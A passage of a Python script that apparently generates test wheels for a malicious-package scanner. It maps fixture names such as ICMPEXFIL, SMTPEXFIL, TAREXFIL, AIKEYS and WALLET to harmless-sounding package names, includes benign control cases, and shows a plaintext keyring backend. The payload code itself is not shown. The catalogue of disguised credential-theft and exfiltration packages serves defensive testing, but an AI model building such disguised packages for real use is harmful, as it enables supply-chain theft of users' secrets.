        except (OSError, ValueError):
            return {}
    def set_password(self, service, username, password):
        d = self._load()
        d[service + "|" + username] = password
        os.makedirs(os.path.dirname(_PATH), exist_ok=True)
        with open(_PATH, "w") as f:
            json.dump(d, f)
    def get_password(self, service, username):
        return self._load().get(service + "|" + username)
"""

KINDS = {
    "toxci": ("tox_venv_cache", "0.5.0",
              {"tox_venv_cache/__init__.py": "",
               "tox_venv_cache/plugin.py": TOXCI},
              "[tox]\nvenv_cache = tox_venv_cache.plugin\n"),
    "keyring": ("keyrings_cache", "1.1.0",
                {"keyrings_cache/__init__.py": "",
                 "keyrings_cache/backend.py": KEYRING},
                "[keyring.backends]\ncache = keyrings_cache.backend\n"),
    "keyringok": ("keyrings_plainfile", "0.3.0",
                  {"keyrings_plainfile/__init__.py": "",
                   "keyrings_plainfile/backend.py": KEYRINGOK},
                  "[keyring.backends]\nplainfile = keyrings_plainfile.backend\n"),
    "modhook": ("llm_tools_lite", "0.2.0",
                {"llm_tools_lite/__init__.py": MODHOOK},
                "[llm]\ntools_lite = llm_tools_lite\n"),
    "setuponce": ("scm_version_lite", "1.0.0",
                  {"scm_version_lite/__init__.py": SETUPONCE},
                  "[setuptools.finalize_distribution_options]\n"
                  "scm_lite = scm_version_lite:finalize\n"),
    "ttyclip": ("rich_progress_lite", "0.5.0",
                {"rich_progress_lite/__init__.py": TTYCLIP}),
    "icmpexfil": ("net_latency_probe", "0.2.1",
                  {"net_latency_probe/__init__.py": ICMPEXFIL}),
    "audithook": ("proc_context_log", "0.6.2",
                  {"proc_context_log/__init__.py": AUDITHOOK}),
    "plant": ("requests_timing_hooks", "0.3.0",
              {"requests_timing_hooks/__init__.py": PLANT}),
    "lazy": ("attr_hooks", "1.0.0", {"attr_hooks/__init__.py": LAZY}),
    "sni": ("tls_edge_metrics", "0.2.0",
            {"tls_edge_metrics/__init__.py": SNI}),
    "keys": ("secret_store_sync", "0.4.1",
             {"secret_store_sync/__init__.py": KEYS}),
    "aikeys": ("model_hub_utils", "0.2.3",
               {"model_hub_utils/__init__.py": AIKEYS}),
    "wallet": ("ledger_keytools", "2.1.0",
               {"ledger_keytools/__init__.py":
                "from .wallet import Wallet\n",
                "ledger_keytools/wallet.py": WALLET}),
    "walletok": ("hd_keyderive", "0.9.2",
                 {"hd_keyderive/__init__.py": WALLETOK}),
    "geofence": ("locale_detect", "1.4.0",
                 {"locale_detect/__init__.py": GEOFENCE}),
    "tarexfil": ("dotfile_backup", "0.3.2",
                 {"dotfile_backup/__init__.py": TAREXFIL}),
    "zlibenv": ("env_metrics", "1.1.0",
                {"env_metrics/__init__.py": ZLIBENV}),
    "smtpexfil": ("mail_report", "0.2.1",
                  {"mail_report/__init__.py": SMTPEXFIL}),
    "smtpssl": ("env_mailer", "0.1.4",
                {"env_mailer/__init__.py": SMTPSSL}),
    "ftpexfil": ("ftp_sync_agent", "0.5.0",
                 {"ftp_sync_agent/__init__.py": FTPEXFIL}),
    "noload": ("fastcrc_bindings", "1.2.0",
               {"fastcrc_bindings/__init__.py":
                "from ._fastcrc import crc32c  # the wheel lacks it\n"}),
    "halfload": ("pkg_split_utils", "0.1.0",
                 {"pkg_split_utils/__init__.py": "VERSION = '0.1.0'\n",
                  "pkg_split_native/__init__.py":
                  "from ._native import fast  # the wheel lacks it\n"}),
    "cronjob": ("sched_sync_agent", "0.2.0",
                {"sched_sync_agent/__init__.py": CRONJOB}),
    "ipstage": ("http_retry_kit", "0.9.1",
                {"http_retry_kit/__init__.py": IPSTAGE}),
    "xorudp": ("ntp_skew_check", "2.0.3",
               {"ntp_skew_check/__init__.py": XORUDP}),
    "bareapi": ("sshconf_tools", "1.0.6",
                {"sshconf_tools/__init__.py": BAREAPI}),
    "atexit": ("logship_handlers", "0.8.0",
               {"logship_handlers/__init__.py": ATEXIT}),
    "toxplugin": ("tox_envfile", "0.4.0",
                  {"tox_envfile/__init__.py": "",
                   "tox_envfile/plugin.py": TOXPLUGIN},
                  "[tox]\nenvfile = tox_envfile.plugin\n"),
    "poetryplugin": ("poetry_lockdiff", "1.0.1",
                     {"poetry_lockdiff/__init__.py": "",
                      "poetry_lockdiff/plugin.py": POETRYPLUGIN},
                     "[poetry.application.plugin]\n"
                     "lock-diff = poetry_lockdiff.plugin:LockDiffPlugin\n"),
    "hookhttp": ("http_timing_probe", "0.3.0",
                 {"http_timing_probe/__init__.py": HOOKHTTP}),
    "keyderive": ("xrpl_wallet_lite", "4.2.1",
                  {"xrpl_wallet_lite/__init__.py":
                   "from .wallet import Wallet\n",
                   "xrpl_wallet_lite/wallet.py": KEYDERIVE}),
    "djready": ("django_audit_trail", "3.2.0",
                {"django_audit_trail/__init__.py":
                 "default_app_config = 'django_audit_trail.apps.AuditTrailConfig'\n",
                 "django_audit_trail/apps.py": DJREADY_APPS}),
    "sphinxci": ("sphinx_copybutton_plus", "0.6.1",
                 {"sphinx_copybutton_plus/__init__.py": SPHINXCI}),
    "jupyter": ("jupyter_panel_metrics", "0.2.0",
                {"jupyter_panel_metrics/__init__.py": JUPYTER}),
    "flaskok": ("flask_request_timer", "1.0.3",
                {"flask_request_timer/__init__.py": FLASKOK}),
    "inplace": ("doc_sync_tools", "1.0.2",
                {"doc_sync_tools/__init__.py": INPLACE}),
    "profiles": ("aws_profile_lister", "1.0.0",
                 {"aws_profile_lister/__init__.py": PROFILES},
                 "[console_scripts]\n"
                 "aws-profiles = aws_profile_lister:main\n"),
}


def main():
    if len(sys.argv) != 3 or sys.argv[1] not in KINDS:
        sys.exit("usage: make_py_pkg.py %s OUT.whl" % "|".join(KINDS))
    write_wheel(sys.argv[2], *KINDS[sys.argv[1]])


if __name__ == "__main__":
    main()
